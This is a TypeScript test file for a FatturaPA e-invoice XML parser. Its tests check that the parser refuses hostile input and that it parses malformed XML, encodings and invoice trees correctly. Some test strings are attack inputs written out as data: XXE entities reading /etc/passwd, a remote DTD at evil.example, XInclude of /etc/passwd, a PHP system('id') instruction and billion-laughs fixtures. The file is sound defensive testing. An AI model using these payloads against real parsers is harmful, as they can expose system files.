import { readFileSync } from 'node:fs'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { decodeXmlBytes, parseXmlTree, type XmlElement } from '../../core/fatturapa/xml-tree.ts'

const fixture = (path: string): string => readFileSync(new URL(`../fixtures/fatturapa/${path}`, import.meta.url), 'utf8')

function ok(xml: string): XmlElement {
  const r = parseXmlTree(xml)
  if (!r.ok) throw new Error(`refused: ${r.issue.code} ${r.issue.message.en}`)
  return r.root
}

function refused(xml: string, options?: Parameters<typeof parseXmlTree>[1]) {
  const r = parseXmlTree(xml, options)
  if (r.ok) throw new Error('accepted')
  expect(r.issue.layer).toBe('xml')
  expect(r.issue.severity).toBe('error')
  expect(r.issue.message.it).not.toBe('')
  return r.issue
}

function find(el: XmlElement, name: string): XmlElement | undefined {
  if (el.name === name) return el
  for (const c of el.children) {
    const f = find(c, name)
    if (f !== undefined) return f
  }
  return undefined
}

describe('parseXmlTree: hostile input is refused without expanding anything', () => {
  let fetchSpy: ReturnType<typeof vi.fn>
  beforeEach(() => {
    fetchSpy = vi.fn(() => Promise.reject(new Error('no network')))
    vi.stubGlobal('fetch', fetchSpy)
  })
  afterEach(() => {
    vi.unstubAllGlobals()
    expect(fetchSpy).not.toHaveBeenCalled()
  })

  it('refuses billion laughs (the corpus file) at once, as a DOCTYPE', () => {
    const t0 = performance.now()
    const issue = refused(fixture('peers/invalid/simevo__billion_laughs.xml'))
    expect(issue.code).toBe('XML-DOCTYPE')
    expect(issue.message.en).toMatch(/^Line 2: /)
    expect(performance.now() - t0).toBeLessThan(50)
  })

  it('refuses an external entity to file:///etc/passwd and never returns file content', () => {
    const xml = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>'
    const issue = refused(xml)
    expect(issue.code).toBe('XML-DOCTYPE')
    expect(JSON.stringify(issue)).not.toMatch(/root:/)
  })

  it('refuses parameter entities and external DTD subsets', () => {
    expect(refused('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>').code).toBe('XML-DOCTYPE')
    expect(refused('<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>').code).toBe('XML-DOCTYPE')
    expect(refused('<r><!ENTITY x "y"></r>').code).toBe('XML-DOCTYPE')
  })

  it('refuses every hostile file of the peer corpus', () => {
    for (const f of ['entity_expansion', 'quadratic_blowup', 'recursive_entity', 'small_jumbo', 'embedded_schema']) {
      expect(refused(fixture(`peers/invalid/simevo__${f}.xml`)).code, f).toBe('XML-DOCTYPE')
    }
  })

  it('refuses a reference to an undeclared entity instead of resolving it', () => {
    const issue = refused('<r>\n<a>&xxe;</a></r>')
    expect(issue.code).toBe('XML-ENTITY')
    expect(issue.message.en).toMatch(/^Line 2: .*&xxe;/)
    expect(issue.xpath).toBe('/r/a')
    expect(refused('<r a="&passwd;"/>').code).toBe('XML-ENTITY')
    expect(refused(`<r>&${'e'.repeat(40)};</r>`).code).toBe('XML-ENTITY')
  })

  it('refuses XInclude, the other way to pull in a file', () => {
    const xml = '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>'
    expect(refused(xml).code).toBe('XML-XINCLUDE')
    expect(refused('<r><include xmlns="http://www.w3.org/2003/XInclude" href="/etc/passwd"/></r>').code).toBe('XML-XINCLUDE')
  })

  it('refuses processing instructions other than the XML declaration (xml-stylesheet included)', () => {
    expect(refused('<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?><r/>').code).toBe('XML-PI')
    expect(refused('<r><?php system("id") ?></r>').code).toBe('XML-PI')
    expect(refused('<r/><?pi?>').code).toBe('XML-PI')
    expect(refused('\n<?xml version="1.0"?><r/>').code).toBe('XML-MALFORMED')
  })

  it('skips <?xml-stylesheet?> before the root only when asked to, and never another PI', () => {
    const xml = '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>\n<r><a/></r>'
    const r = parseXmlTree(xml, { allowXmlStylesheet: true })
    expect(r.ok && r.root.children[0]?.line).toBe(3)
    expect(refused('<r><?xml-stylesheet href="x"?></r>', { allowXmlStylesheet: true }).code).toBe('XML-PI')
    expect(refused('<?php x ?><r/>', { allowXmlStylesheet: true }).code).toBe('XML-PI')
  })

  it('refuses absurd depth and size, with the limits configurable', () => {
    const deep = `${'<a>'.repeat(100)}${'</a>'.repeat(100)}`
    expect(refused(deep).code).toBe('XML-DEPTH')
    expect(ok(`${'<a>'.repeat(20)}${'</a>'.repeat(20)}`).name).toBe('a')
    expect(refused('<a>0123456789</a>', { maxChars: 10 }).code).toBe('XML-SIZE')
    expect(refused(`<r>${'x'.repeat(5_000_001)}</r>`).code).toBe('XML-SIZE')
  })

  it('imports nothing but types (no I/O is possible)', () => {
    const src = readFileSync(new URL('../../core/fatturapa/xml-tree.ts', import.meta.url), 'utf8')
    const imports = src.match(/^import .*$/gm) ?? []
    expect(imports).toEqual(["import type { ValidationIssue } from './issue.ts'"])
  })
})

describe('parseXmlTree: malformed XML gives an xml issue with the line', () => {
  const cases: [string, string, RegExp][] = [
    ['mismatched end tag', '<r>\n<a>\n</b></r>', /^Line 3: expected <\/a>, found <\/b>/],
    ['unclosed root (the truncated corpus file)', fixture('peers/invalid/simevo__malformed.xml'), /^Line 2: /],
    ['end of document inside an element', '<r><a>x</a>', /still open/],
    ['two roots', '<a/>\n<b/>', /^Line 2: /],
    ['text after the root', '<a/>junk', /after the root/],
    ['text before the root', 'junk<a/>', /outside the root/],
    ['repeated attribute', '<a x="1" x="2"/>', /repeated attribute/],
    ['unquoted attribute', '<a x=1/>', /unquoted/],
    ['"<" in an attribute', '<a x="<"/>', /"<"/],
    ['bare ampersand', '<a>fish & chips</a>', /"&"/],
    ['NUL character', '<a>\u0000</a>', /U\+0000/],
    ['reference to NUL', '<a>&#0;</a>', /&#0;/],
    ['bad element name', '<1a/>', /invalid "<"/],
    ['unterminated comment', '<a><!-- x</a>', /comment/],
    ['unterminated CDATA', '<a><![CDATA[x</a>', /CDATA/],
    ['empty document', '', /no root element/],
  ]
  for (const [name, xml, message] of cases) {
    it(`refuses ${name}`, () => {
      const issue = refused(xml)
      expect(issue.code).toBe('XML-MALFORMED')
      expect(issue.message.en).toMatch(message)
      expect(issue.message.it).toMatch(/^Riga \d+: /)
    })
  }

  it('refuses an undeclared namespace prefix', () => {
    expect(refused('<p:a/>').code).toBe('XML-NAMESPACE')
    expect(refused('<a xmlns:p="u"><b q:x="1"/></a>').code).toBe('XML-NAMESPACE')
    expect(ok('<p:a xmlns:p="u"><p:b/></p:a>').children[0]?.prefix).toBe('p')
  })
})

describe('parseXmlTree: encodings', () => {
  it('accepts UTF-8 (any case, with or without BOM) and the Latin-1 family, refuses the rest', () => {
    expect(ok('\uFEFF<?xml version="1.0" encoding="UTF-8"?><r/>').name).toBe('r')
    expect(ok("<?xml version='1.0' encoding='utf-8' standalone='yes'?><r/>").name).toBe('r')
    expect(ok('<?xml version="1.0" encoding="windows-1252"?><r/>').name).toBe('r')
    expect(ok('<?xml version="1.0" encoding="ISO-8859-1"?><r/>').name).toBe('r')
    expect(refused('<?xml version="1.0" encoding="UTF-16"?><r/>').code).toBe('XML-ENCODING')
    expect(refused('<?xml version="1.0" encoding="EBCDIC-CP-US"?><r/>').code).toBe('XML-ENCODING')
    expect(refused('<?xml encoding="UTF-8"?><r/>').code).toBe('XML-MALFORMED')
  })

  it('decodeXmlBytes decodes by BOM and declaration, and refuses what it cannot decode', () => {
    const latin = Uint8Array.from([
      ...new TextEncoder().encode('<?xml version="1.0" encoding="windows-1252"?><r>caff'),
      0xe8,
      0x80,
      ...new TextEncoder().encode('</r>'),
    ])
    const d = decodeXmlBytes(latin)
    expect(d.ok && ok(d.text).text).toBe('caffè€')
    const utf8 = decodeXmlBytes(Uint8Array.from([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('<r>è</r>')]))
    expect(utf8.ok && ok(utf8.text).text).toBe('è')
    const bad = decodeXmlBytes(Uint8Array.from([...new TextEncoder().encode('<r>'), 0xe8, ...new TextEncoder().encode('</r>')]))
    expect(bad.ok ? 'ok' : bad.issue.code).toBe('XML-MALFORMED')
    const utf16 = decodeXmlBytes(Uint8Array.from([0xff, 0xfe, 0x3c, 0x00]))
    expect(utf16.ok ? 'ok' : utf16.issue.code).toBe('XML-ENCODING')
    const koi = decodeXmlBytes(new TextEncoder().encode('<?xml version="1.0" encoding="KOI8-R"?><r/>'))
    expect(koi.ok ? 'ok' : koi.issue.code).toBe('XML-ENCODING')
  })

  it('reads the windows-1252 corpus file like its UTF-8 twin', () => {
    const bytes = readFileSync(new URL('../fixtures/fatturapa/peers/unstated/fenet__IT02182030391_32.windows-1252.xml', import.meta.url))
    const d = decodeXmlBytes(bytes)
    expect(d.ok).toBe(true)
    // The file carries an xml-stylesheet instruction, which the reader refuses (see the PI test): only the decoding is compared.
    const twin = fixture('peers/unstated/fenet__IT02182030391_32.xml').replace(/^\uFEFF/, '')
    expect(d.ok && d.text.replace(/encoding="windows-1252"/, 'encoding="utf-8"').slice(0, 2000)).toBe(
      twin.replace(/encoding="[^"]*"/, 'encoding="utf-8"').slice(0, 2000),
    )
  })
})

describe('parseXmlTree: the tree', () => {
  it('gives local names, prefixes, attributes, decoded text and lines', () => {
    const root = ok(
      '<?xml version="1.0"?>\n<p:F xmlns:p="urn:x" versione="FPR12" a=\'&quot;q&apos;\'>\n  <B>a &lt;b&gt; &amp; &#233;&#x20AC;<![CDATA[<raw & kept>]]></B>\n  <!-- c -->\n  <E/>\n</p:F>\n',
    )
    expect(root).toMatchObject({ name: 'F', prefix: 'p', line: 2, text: '' })
    expect(root.attrs).toEqual({ 'xmlns:p': 'urn:x', versione: 'FPR12', a: '"q\'' })
    expect(root.children.map((c) => [c.name, c.prefix, c.line, c.text])).toEqual([
      ['B', null, 3, 'a <b> & é€<raw & kept>'],
      ['E', null, 5, ''],
    ])
  })

  it('indexes repeated siblings, and the elements FatturaPA lets repeat even when single', () => {
    const root = ok(
      '<FatturaElettronica><FatturaElettronicaHeader/><FatturaElettronicaBody><DatiBeniServizi><DettaglioLinee><X/><X/><Y/></DettaglioLinee><DettaglioLinee/><DatiRiepilogo/></DatiBeniServizi></FatturaElettronicaBody></FatturaElettronica>',
    )
    const dbs = root.children[1]?.children[0] as XmlElement
    expect(root.children.map((c) => c.xpath)).toEqual([
      '/FatturaElettronica/FatturaElettronicaHeader',
      '/FatturaElettronica/FatturaElettronicaBody[1]',
    ])
    expect(dbs.children.map((c) => c.xpath)).toEqual([
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DettaglioLinee[1]',
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DettaglioLinee[2]',
      '/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DatiRiepilogo[1]',
    ])
    expect(dbs.children[0]?.children.map((c) => c.xpath.split('/').pop())).toEqual(['X[1]', 'X[2]', 'Y'])
  })

  it('parses the official FPR03 sample with its two bodies', () => {
    const root = ok(fixture('examples/IT01234567890_FPR03.xml'))
    expect(root.name).toBe('FatturaElettronica')
    expect(root.attrs['versione']).toBe('FPR12')
    expect(root.children.filter((c) => c.name === 'FatturaElettronicaBody')).toHaveLength(2)
    const imponibile = find(root, 'ImponibileImporto')
    expect(imponibile?.text).toBe('27.00')
    expect(imponibile?.line).toBe(99)
    expect(imponibile?.xpath).toBe('/FatturaElettronica/FatturaElettronicaBody[1]/DatiBeniServizi/DatiRiepilogo[1]/ImponibileImporto')
    expect(JSON.parse(JSON.stringify(imponibile))).toMatchObject({ name: 'ImponibileImporto', text: '27.00', line: 99 })
  })

  for (const [layout, sep] of [
    ['one line per DettaglioLinee', '\n'],
    ['no newline at all', ''],
  ] as const) {
    it(`parses a 1 MB invoice quickly (${layout})`, () => {
      const line = (n: number) =>
        `<DettaglioLinee><NumeroLinea>${n}</NumeroLinea><Descrizione>Servizio &amp; consulenza n. ${n}</Descrizione><Quantita>1.00</Quantita><PrezzoUnitario>10.00</PrezzoUnitario><PrezzoTotale>10.00</PrezzoTotale><AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee>${sep}`
      const body = Array.from({ length: 4500 }, (_, i) => line(i + 1)).join('')
      const xml = `<?xml version="1.0" encoding="UTF-8"?>${sep}<p:FatturaElettronica xmlns:p="urn:x" versione="FPR12"><FatturaElettronicaBody><DatiBeniServizi>${sep}${body}</DatiBeniServizi></FatturaElettronicaBody></p:FatturaElettronica>`
      expect(xml.length).toBeGreaterThan(1_000_000)
      ok(xml) // warm-up
      const t0 = performance.now()
      const root = ok(xml)
      const ms = performance.now() - t0
      const dbs = root.children[0]?.children[0] as XmlElement
      expect(dbs.children).toHaveLength(4500)
      expect(dbs.children[4499]?.children[1]?.text).toBe('Servizio & consulenza n. 4500')
      expect(dbs.children[4499]?.line).toBe(sep === '' ? 1 : 4502)
      // About 10 ms on the 2-core development machine (31 500 elements); the bound leaves room for a loaded machine.
      expect(ms).toBeLessThan(250)
    })
  }
})
